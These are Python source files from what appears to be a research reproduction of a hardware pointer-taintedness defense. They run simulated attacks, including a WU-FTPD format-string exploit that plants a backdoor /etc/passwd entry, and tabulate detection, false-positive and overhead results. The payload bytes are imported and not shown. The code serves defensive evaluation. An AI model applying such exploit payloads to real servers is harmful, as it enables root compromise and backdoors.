                wallclock_no_tracking=untracked_time,
                input_bytes_tainted=tainted,
                software_overhead_pct=100.0
                * tainted
                / tracked.sim.stats.instructions,
            )
        )
    return rows


def shadow_state_overhead() -> Dict[str, float]:
    """Area overhead of the taintedness extension: 1 bit per byte."""
    return {
        "memory_bits_per_byte": 1.0,
        "memory_overhead_pct": 100.0 / 8.0,
        "register_bits_per_register": 4.0,
    }


def report_sec54() -> str:
    rows = run_sec54()
    table = render_table(
        [
            "workload",
            "instrs (tracking)",
            "instrs (no tracking)",
            "extra instructions",
            "kernel-tainted bytes",
            "software overhead",
        ],
        [
            (
                r.name,
                f"{r.instructions_tracking:,}",
                f"{r.instructions_no_tracking:,}",
                r.instructions_tracking - r.instructions_no_tracking,
                r.input_bytes_tainted,
                f"{r.software_overhead_pct:.3f}%",
            )
            for r in rows
        ],
        title="Section 5.4: architectural overhead",
    )
    shadow = shadow_state_overhead()
    extra = render_kv(
        [
            ("shadow memory", f"{shadow['memory_overhead_pct']:.1f}% "
                              "(1 taint bit per byte)"),
            ("pipeline", "taint OR runs in parallel with the ALU: "
                         "0 extra simulated instructions"),
            ("paper's software estimate", "0.002%..0.2% extra instructions"),
        ],
        title="hardware model:",
    )
    return f"{table}\n{extra}"
