"""One runner per paper artifact (every table and figure).

Each ``run_*`` function returns structured data; each ``report_*`` renders
the same data the way the paper presents it.  The benchmark harness under
``benchmarks/`` calls these runners, and EXPERIMENTS.md records their
output against the paper's numbers.

The row-structured artifacts (fig2 scenarios, the two Table 2 runs,
Table 3 workloads, Table 4 scenarios, coverage-matrix rows) are
independent executions, so their runners take a ``workers`` knob: ``1``
(default) runs the historical serial loop, ``N > 1`` fans the per-row
unit functions (``_unit_*``) out to the :mod:`repro.parallel` process
pool.  Rows come back in their serial order and each unit is
deterministic, so rendered tables are byte-identical for every worker
count.  Worker-side metric harvests are shipped home as registry dumps
and absorbed in row order (:meth:`~repro.obs.metrics.MetricsRegistry.absorb`).
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from ..apps.ghttpd import ghttpd_scenario
from ..apps.nullhttpd import nullhttpd_scenario
from ..apps.spec import SPEC_WORKLOADS, SpecWorkload
from ..apps.synthetic import (
    all_synthetic_scenarios,
    exp1_scenario,
    exp2_scenario,
    exp3_scenario,
    leak_scenario,
    vuln_a_scenario,
    vuln_b_scenario,
)
from ..apps.traceroute import traceroute_scenario
from ..apps.wuftpd import (
    BACKDOOR_PASSWD_ENTRY,
    site_exec_payload,
    uid_address,
    wuftpd_scenario,
)
from ..attacks.replay import RunResult, run_minic
from ..attacks.scenarios import AttackScenario
from ..core.events import TaintedDereference
from ..defenses.policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)
from ..libc.build import build_program
from ..obs import MetricsRegistry, Observer
from .cert import figure1_rows, memory_corruption_share
from .reporting import check, render_kv, render_table


def _parallel(workers: int) -> bool:
    """True when ``workers`` asks for the process pool."""
    from ..parallel.engine import resolve_workers

    return resolve_workers(workers) > 1


def _fan_units(kind: str, count: int, registry, workers: int) -> List:
    from ..parallel.experiments import run_experiment_units

    return run_experiment_units(kind, count, workers, registry=registry)


@dataclass(frozen=True)
class RunFacts:
    """Picklable summary of a :class:`RunResult`.

    Pool workers cannot ship a live machine across the process boundary,
    so parallel Table 2 units return the exact strings the report and the
    facade read off a ``RunResult`` -- rendering is byte-identical in
    both modes.
    """

    outcome: str
    detected: bool
    alert: Optional[str]
    summary: str

    def describe(self) -> str:
        return self.summary


def _run_facts(result: RunResult) -> RunFacts:
    return RunFacts(
        outcome=result.outcome,
        detected=result.detected,
        alert=str(result.alert) if result.alert else None,
        summary=result.describe(),
    )


def _harvest(registry: Optional[MetricsRegistry], result: RunResult) -> None:
    """Fold one run's statistics into an experiment's registry.

    Uses the same :class:`~repro.obs.profile.Observer` harvest (and thus
    the same metric names -- ``run.instructions``, ``run.alerts``,
    ``opcode.*``, ...) every other harness reports through, so Table 2/3
    numbers are directly comparable with campaign and CLI metrics.
    """
    if registry is not None and result.sim is not None:
        Observer(registry).harvest(result.sim, result.pstats)


def real_world_scenarios() -> List[AttackScenario]:
    """The four section 5.1.2 applications."""
    return [
        wuftpd_scenario(),
        nullhttpd_scenario(),
        ghttpd_scenario(),
        traceroute_scenario(),
    ]


def all_attack_scenarios() -> List[AttackScenario]:
    """Synthetic (Figure 2 + Table 4) plus real-world scenarios."""
    return all_synthetic_scenarios() + real_world_scenarios()


# ---------------------------------------------------------------------------
# Figure 1
# ---------------------------------------------------------------------------

def run_fig1() -> Dict[str, object]:
    rows = figure1_rows()
    return {
        "rows": rows,
        "memory_share": memory_corruption_share(),
    }


def report_fig1(workers: int = 1) -> str:
    # Static advisory counts: nothing to fan out, the knob is accepted so
    # every report shares one signature.
    data = run_fig1()
    table = render_table(
        ["vulnerability class", "advisories", "percent"],
        [(cat, count, f"{pct:.1f}%") for cat, count, pct in data["rows"]],
        title="Figure 1: CERT advisories 2000-2003 by vulnerability class",
    )
    share = data["memory_share"]
    return (
        f"{table}\n"
        f"memory-corruption share: {share:.1f}%  (paper: 67%)"
    )


# ---------------------------------------------------------------------------
# Figure 2 / section 5.1.1: synthetic detections
# ---------------------------------------------------------------------------

@dataclass
class DetectionRecord:
    """Outcome of one scenario under one policy."""

    scenario: str
    category: str
    policy: str
    outcome: str
    alert: str = ""
    pointer: Optional[int] = None

    @property
    def detected(self) -> bool:
        return self.outcome == "alert"


#: The fig2 scenario factories, indexed by unit position.
_FIG2_SCENARIOS = (exp1_scenario, exp2_scenario, exp3_scenario)


def _unit_fig2(
    index: int, registry: Optional[MetricsRegistry] = None
) -> DetectionRecord:
    """One fig2 row: replay one synthetic attack, observing the detection
    through the machine's event bus (a ``TaintedDereference`` event fires
    at the moment the detector marks the instruction malicious)."""
    policy = PointerTaintPolicy()
    scenario = _FIG2_SCENARIOS[index]()
    result = scenario.run_attack(policy, record_events=(TaintedDereference,))
    _harvest(registry, result)
    detections = (
        result.events.of(TaintedDereference) if result.events else []
    )
    alert = detections[0].alert if detections else result.alert
    return DetectionRecord(
        scenario=scenario.name,
        category=scenario.category,
        policy=policy.name,
        outcome=result.outcome,
        alert=str(alert) if alert else "",
        pointer=alert.pointer_value if alert else None,
    )


def run_synthetic_detections(
    registry: Optional[MetricsRegistry] = None, workers: int = 1
) -> List[DetectionRecord]:
    """Replay the three synthetic attacks (one pool unit each when
    ``workers > 1``)."""
    if _parallel(workers):
        return _fan_units("fig2", len(_FIG2_SCENARIOS), registry, workers)
    return [
        _unit_fig2(i, registry) for i in range(len(_FIG2_SCENARIOS))
    ]


def report_fig2(workers: int = 1) -> str:
    rows = [
        (r.scenario, r.category, r.outcome.upper(), r.alert)
        for r in run_synthetic_detections(workers=workers)
    ]
    return render_table(
        ["program", "attack class", "outcome", "alert"],
        rows,
        title="Figure 2 / section 5.1.1: synthetic attack detection",
    )


# ---------------------------------------------------------------------------
# Table 2: the WU-FTPD session transcript
# ---------------------------------------------------------------------------

def _unit_table2(index: int, registry: Optional[MetricsRegistry] = None):
    """One Table 2 run: 0 = protected (pointer-taintedness), 1 = the
    unprotected control whose ``/etc/passwd`` damage the report prints.

    Returns ``(RunFacts, passwd_after_bytes)`` -- picklable, unlike the
    live :class:`RunResult` the serial path hands back.
    """
    scenario = wuftpd_scenario()
    if index == 0:
        result = scenario.run_attack(PointerTaintPolicy())
        _harvest(registry, result)
        return (_run_facts(result), b"")
    unprotected = scenario.run_attack(NullPolicy())
    passwd_after = (
        unprotected.kernel.fs.read_file("/etc/passwd")
        if unprotected.kernel
        else b""
    )
    return (_run_facts(unprotected), passwd_after)


def run_table2(
    registry: Optional[MetricsRegistry] = None, workers: int = 1
) -> Dict[str, object]:
    if _parallel(workers):
        (facts, _), (un_facts, passwd_after) = _fan_units(
            "table2", 2, registry, workers
        )
        return {
            "result": facts,
            "unprotected": un_facts,
            "uid_address": uid_address(),
            "payload": site_exec_payload(),
            "passwd_after": passwd_after,
        }
    scenario = wuftpd_scenario()
    result = scenario.run_attack(PointerTaintPolicy())
    _harvest(registry, result)
    unprotected = scenario.run_attack(NullPolicy())
    passwd_after = (
        unprotected.kernel.fs.read_file("/etc/passwd")
        if unprotected.kernel
        else b""
    )
    return {
        "result": result,
        "unprotected": unprotected,
        "uid_address": uid_address(),
        "payload": site_exec_payload(),
        "passwd_after": passwd_after,
    }


def report_table2(workers: int = 1) -> str:
    data = run_table2(workers=workers)
    result = data["result"]
    unprotected = data["unprotected"]
    payload = data["payload"].decode("latin-1").rstrip("\n")
    command, argument = payload[:10], payload[10:]
    printable = command + "".join(
        ch if 32 < ord(ch) < 127 else f"\\x{ord(ch):02x}" for ch in argument
    )
    rows = [
        ("FTP Server", "220 FTP server (Version wu-2.6.0(60) "
                       "Mon Nov 29 10:37:55 CST 2004) ready."),
        ("FTP Client", "user user1"),
        ("FTP Server", "331 Password required for user1."),
        ("FTP Client", "pass xxxxxxx (the correct password)"),
        ("FTP Client", printable.lower()),
        ("Alert", str(result.alert) if result.alert else result.describe()),
    ]
    table = render_table(
        ["party", "message"], rows,
        title="Table 2: attacking WU-FTPD on the proposed architecture",
    )
    extra = render_kv(
        [
            ("uid word address", hex(data["uid_address"])),
            ("detected (pointer-taintedness)", result.detected),
            ("unprotected run outcome", unprotected.describe()),
            ("unprotected /etc/passwd", data["passwd_after"].decode("latin-1")),
            ("backdoor entry planted", BACKDOOR_PASSWD_ENTRY in
             data["passwd_after"].decode("latin-1")),
        ],
        title="verdicts:",
    )
    return f"{table}\n{extra}"


# ---------------------------------------------------------------------------
# Section 5.1.2: real-world application attacks under all policies
# ---------------------------------------------------------------------------

def _unit_real_world(
    index: int, registry: Optional[MetricsRegistry] = None
) -> List[DetectionRecord]:
    """One real-world scenario under the three standard policies."""
    scenario = real_world_scenarios()[index]
    records = []
    for policy in (PointerTaintPolicy(), ControlDataPolicy(), NullPolicy()):
        result = scenario.run_attack(policy)
        records.append(
            DetectionRecord(
                scenario=scenario.name,
                category=scenario.category,
                policy=policy.name,
                outcome=result.outcome,
                alert=str(result.alert) if result.alert else
                result.describe(),
            )
        )
    return records


def run_real_world(policies: Optional[Sequence[DetectionPolicy]] = None,
                   workers: int = 1) -> List[DetectionRecord]:
    if policies is None:
        if _parallel(workers):
            per_scenario = _fan_units(
                "real_world", len(real_world_scenarios()), None, workers
            )
            return [record for group in per_scenario for record in group]
        policies = (PointerTaintPolicy(), ControlDataPolicy(), NullPolicy())
    records = []
    for scenario in real_world_scenarios():
        for policy in policies:
            result = scenario.run_attack(policy)
            records.append(
                DetectionRecord(
                    scenario=scenario.name,
                    category=scenario.category,
                    policy=policy.name,
                    outcome=result.outcome,
                    alert=str(result.alert) if result.alert else
                    result.describe(),
                )
            )
    return records


# ---------------------------------------------------------------------------
# Table 3: false positives on the SPEC-like workloads
# ---------------------------------------------------------------------------

@dataclass
class FalsePositiveRow:
    """One Table 3 column (we print workloads as rows)."""

    name: str
    program_bytes: int
    input_bytes: int
    instructions: int
    alerts: int
    stdout: str = ""


def _table3_row(
    workload: SpecWorkload,
    policy: DetectionPolicy,
    registry: Optional[MetricsRegistry],
) -> FalsePositiveRow:
    exe = build_program(workload.source)
    stdin = workload.make_input()
    result = run_minic(workload.source, policy, stdin=stdin)
    _harvest(registry, result)
    if result.outcome != "exit":
        raise AssertionError(
            f"benign workload {workload.name} did not exit cleanly: "
            f"{result.describe()}"
        )
    assert result.sim is not None
    program_bytes = 4 * len(exe.text_words) + len(exe.data)
    return FalsePositiveRow(
        name=workload.name,
        program_bytes=program_bytes,
        input_bytes=len(stdin),
        instructions=result.sim.stats.instructions,
        alerts=result.sim.stats.alerts,
        stdout=result.stdout.strip(),
    )


def _unit_table3(
    index: int, registry: Optional[MetricsRegistry] = None
) -> FalsePositiveRow:
    return _table3_row(SPEC_WORKLOADS[index], PointerTaintPolicy(), registry)


def run_table3(
    workloads: Optional[Sequence[SpecWorkload]] = None,
    policy: Optional[DetectionPolicy] = None,
    registry: Optional[MetricsRegistry] = None,
    workers: int = 1,
) -> List[FalsePositiveRow]:
    # Custom workloads / policies cannot cross the pickle boundary, so the
    # pool only serves the default (full Table 3) configuration.
    if workloads is None and policy is None and _parallel(workers):
        return _fan_units("table3", len(SPEC_WORKLOADS), registry, workers)
    workloads = workloads if workloads is not None else SPEC_WORKLOADS
    policy = policy if policy is not None else PointerTaintPolicy()
    return [_table3_row(w, policy, registry) for w in workloads]


def report_table3(workers: int = 1) -> str:
    rows = run_table3(workers=workers)
    total = FalsePositiveRow(
        name="Total",
        program_bytes=sum(r.program_bytes for r in rows),
        input_bytes=sum(r.input_bytes for r in rows),
        instructions=sum(r.instructions for r in rows),
        alerts=sum(r.alerts for r in rows),
    )
    table = render_table(
        ["program", "program size", "input bytes", "instructions", "alerts"],
        [
            (r.name, f"{r.program_bytes / 1024:.0f}KB", f"{r.input_bytes}",
             f"{r.instructions:,}", r.alerts)
            for r in [*rows, total]
        ],
        title="Table 3: false-positive test (SPEC-2000-like workloads)",
    )
    return f"{table}\nalerts raised: {total.alerts}  (paper: 0)"


# ---------------------------------------------------------------------------
# Table 4: false-negative scenarios
# ---------------------------------------------------------------------------

@dataclass
class FalseNegativeRow:
    scenario: str
    detected: bool
    damage: str


#: (scenario factory, row label, stdout marker, damage description).
_TABLE4_CASES = (
    (
        vuln_a_scenario,
        "(A) integer overflow -> negative array index",
        "corrupted",
        "memory below array overwritten",
    ),
    (
        vuln_b_scenario,
        "(B) overflow corrupts authentication flag",
        "access granted",
        "access granted without valid password",
    ),
    (
        leak_scenario,
        "(C) format string information leak (%x)",
        "1337c0de",
        "secret key leaked to output",
    ),
)


def _unit_table4(
    index: int, registry: Optional[MetricsRegistry] = None
) -> FalseNegativeRow:
    factory, label, marker, damage = _TABLE4_CASES[index]
    result = factory().run_attack(PointerTaintPolicy())
    return FalseNegativeRow(
        scenario=label,
        detected=result.detected,
        damage=damage if marker in result.stdout else "none",
    )


def run_table4(workers: int = 1) -> List[FalseNegativeRow]:
    if _parallel(workers):
        return _fan_units("table4", len(_TABLE4_CASES), None, workers)
    return [_unit_table4(i) for i in range(len(_TABLE4_CASES))]


def report_table4(workers: int = 1) -> str:
    rows = run_table4(workers=workers)
    table = render_table(
        ["scenario", "detected", "damage done"],
        [(r.scenario, "yes" if r.detected else "NO (escapes)", r.damage)
         for r in rows],
        title="Table 4: false-negative scenarios (section 5.3)",
    )
    return table


# ---------------------------------------------------------------------------
# Coverage matrix: every attack x every policy (the section 5.1 claim)
# ---------------------------------------------------------------------------

def _unit_coverage(
    index: int, registry: Optional[MetricsRegistry] = None
) -> Dict[str, object]:
    """One coverage-matrix row: one attack scenario under every policy."""
    scenario = all_attack_scenarios()[index]
    row: Dict[str, object] = {
        "scenario": scenario.name,
        "category": scenario.category,
    }
    for policy in (PointerTaintPolicy(), ControlDataPolicy(), NullPolicy()):
        result = scenario.run_attack(policy)
        row[policy.name] = result.detected
        if policy.name == "unprotected":
            row["compromise"] = scenario.attack_succeeded(result)
    return row


def run_coverage_matrix(workers: int = 1) -> List[Dict[str, object]]:
    count = len(all_attack_scenarios())
    if _parallel(workers):
        return _fan_units("coverage", count, None, workers)
    return [_unit_coverage(i) for i in range(count)]


def report_coverage_matrix(workers: int = 1) -> str:
    matrix = run_coverage_matrix(workers=workers)
    rows = [
        (
            row["scenario"],
            row["category"],
            check(bool(row["pointer-taintedness"])),
            check(bool(row["control-data-only"])),
            "yes" if row["compromise"] else "no",
        )
        for row in matrix
    ]
    return render_table(
        [
            "attack",
            "class",
            "pointer-taintedness",
            "control-data-only",
            "compromise if unprotected",
        ],
        rows,
        title="Security coverage: this paper vs control-flow-integrity baseline",
    )


# ---------------------------------------------------------------------------
# Section 5.4: architectural overhead
# ---------------------------------------------------------------------------

@dataclass
class OverheadRow:
    name: str
    instructions_tracking: int
    instructions_no_tracking: int
    wallclock_tracking: float
    wallclock_no_tracking: float
    input_bytes_tainted: int
    software_overhead_pct: float


def run_sec54(
    workloads: Optional[Sequence[SpecWorkload]] = None,
) -> List[OverheadRow]:
    """Taint tracking on vs off.

    The paper argues the *hardware* adds no cycles because taint propagation
    runs in parallel with the ALU; the measurable check is that the
    instruction stream is identical with tracking on and off.  The paper's
    only software cost is the kernel tainting each input byte (estimated at
    one instruction per byte: 0.002%..0.2% on SPEC).
    """
    workloads = workloads if workloads is not None else SPEC_WORKLOADS[:3]
    rows = []
    for workload in workloads:
        stdin = workload.make_input()

        start = time.perf_counter()
        tracked = run_minic(
            workload.source, PointerTaintPolicy(), stdin=stdin
        )
        tracked_time = time.perf_counter() - start

        start = time.perf_counter()
        untracked = run_minic(
            workload.source,
            NullPolicy(track_taint=False),
            stdin=stdin,
            taint_inputs=False,
        )
        untracked_time = time.perf_counter() - start

        assert tracked.sim is not None and untracked.sim is not None
        tainted = tracked.sim.stats.input_bytes_tainted
        rows.append(
            OverheadRow(
                name=workload.name,
                instructions_tracking=tracked.sim.stats.instructions,
                instructions_no_tracking=untracked.sim.stats.instructions,
                wallclock_tracking=tracked_time,
                wallclock_no_tracking=untracked_time,
                input_bytes_tainted=tainted,
                software_overhead_pct=100.0
                * tainted
                / tracked.sim.stats.instructions,
            )
        )
    return rows


def shadow_state_overhead() -> Dict[str, float]:
    """Area overhead of the taintedness extension: 1 bit per byte."""
    return {
        "memory_bits_per_byte": 1.0,
        "memory_overhead_pct": 100.0 / 8.0,
        "register_bits_per_register": 4.0,
    }


def report_sec54(workers: int = 1) -> str:
    # Deliberately serial: the rows measure wall-clock overhead, which a
    # shared-core pool would distort.
    rows = run_sec54()
    table = render_table(
        [
            "workload",
            "instrs (tracking)",
            "instrs (no tracking)",
            "extra instructions",
            "kernel-tainted bytes",
            "software overhead",
        ],
        [
            (
                r.name,
                f"{r.instructions_tracking:,}",
                f"{r.instructions_no_tracking:,}",
                r.instructions_tracking - r.instructions_no_tracking,
                r.input_bytes_tainted,
                f"{r.software_overhead_pct:.3f}%",
            )
            for r in rows
        ],
        title="Section 5.4: architectural overhead",
    )
    shadow = shadow_state_overhead()
    extra = render_kv(
        [
            ("shadow memory", f"{shadow['memory_overhead_pct']:.1f}% "
                              "(1 taint bit per byte)"),
            ("pipeline", "taint OR runs in parallel with the ALU: "
                         "0 extra simulated instructions"),
            ("paper's software estimate", "0.002%..0.2% extra instructions"),
        ],
        title="hardware model:",
    )
    return f"{table}\n{extra}"


# ---------------------------------------------------------------------------
# Defense matrix: every attack x every pluggable defense (ROADMAP item 4)
# ---------------------------------------------------------------------------

# Re-exported here so pool workers resolve the unit by name on this
# module like every other ``_unit_*`` (see repro.parallel.experiments).
from .defense_matrix import (  # noqa: E402  (re-export after definitions)
    _unit_defense_matrix,
    matrix_summary,
    report_defense_matrix,
    run_defense_matrix,
    run_defense_overhead,
)
