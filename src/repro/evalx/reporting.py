"""ASCII table rendering for experiment reports."""

from __future__ import annotations

from typing import Iterable, List, Sequence


def render_table(
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    title: str = "",
) -> str:
    """Render a list of rows as a boxed ASCII table."""
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in materialized:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(cell))

    def line(char: str = "-") -> str:
        return "+" + "+".join(char * (w + 2) for w in widths) + "+"

    def format_row(cells: Sequence[str]) -> str:
        return "| " + " | ".join(
            cell.ljust(widths[i]) for i, cell in enumerate(cells)
        ) + " |"

    parts: List[str] = []
    if title:
        parts.append(title)
    parts.append(line("="))
    parts.append(format_row(list(headers)))
    parts.append(line("="))
    for row in materialized:
        parts.append(format_row(row))
    parts.append(line("-"))
    return "\n".join(parts)


def render_kv(pairs: Iterable[Sequence[object]], title: str = "") -> str:
    """Render key/value pairs, one per line."""
    parts: List[str] = []
    if title:
        parts.append(title)
    for key, value in pairs:
        parts.append(f"  {key}: {value}")
    return "\n".join(parts)


def check(flag: bool) -> str:
    """Tick/cross cell used in coverage matrices."""
    return "DETECTED" if flag else "missed"
