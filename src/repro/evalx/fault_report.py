"""Render fault-injection campaign results as a coverage report.

The layout mirrors the paper's evaluation tables: a header with the
campaign parameters and the reproducibility digest, an outcome
distribution, a fault-kind x outcome matrix (which fault classes the
taintedness detector catches, which are masked by the workload, and which
slip through as silent data corruption), and the recovery summary.
"""

from __future__ import annotations

from ..fault.campaign import CampaignResult, OUTCOMES
from .reporting import render_kv, render_table

__all__ = ["render_campaign_report"]


def render_campaign_report(result: CampaignResult) -> str:
    config = result.config
    counts = result.counts
    total = len(result.records) or 1
    header = render_kv(
        [
            ("workload", result.workload),
            ("seed", config.seed),
            ("trials", len(result.records)),
            ("engine", config.engine),
            ("recovery", config.recovery),
            ("caches", "on" if config.use_caches else "off"),
            (
                "golden",
                f"exit={result.golden.exit_status} "
                f"instructions={result.golden.instructions}",
            ),
            ("faults injected", result.injected_count),
            ("digest", result.digest()),
            ("throughput", f"{result.trials_per_second:.1f} trials/sec"),
        ],
        title="Fault-injection campaign",
    )

    outcome_table = render_table(
        ["outcome", "trials", "share"],
        [
            [outcome, counts[outcome], f"{100.0 * counts[outcome] / total:.1f}%"]
            for outcome in OUTCOMES
        ],
        title="Outcome distribution",
    )

    matrix = result.kind_outcome_matrix()
    matrix_table = render_table(
        ["fault kind"] + list(OUTCOMES) + ["total"],
        [
            [kind] + [row[outcome] for outcome in OUTCOMES] + [sum(row.values())]
            for kind, row in sorted(matrix.items())
        ],
        title="Fault kind x outcome",
    )

    parts = [header, "", outcome_table, "", matrix_table]
    if config.recovery == "rollback-retry":
        abnormal = (
            counts["detected"] + counts["crash"] + counts["timeout"]
        )
        parts += [
            "",
            render_kv(
                [
                    ("abnormal endings", abnormal),
                    ("rollback-retry reproduced golden", result.recovered_count),
                ],
                title="Recovery (rollback-retry)",
            ),
        ]
    return "\n".join(parts)
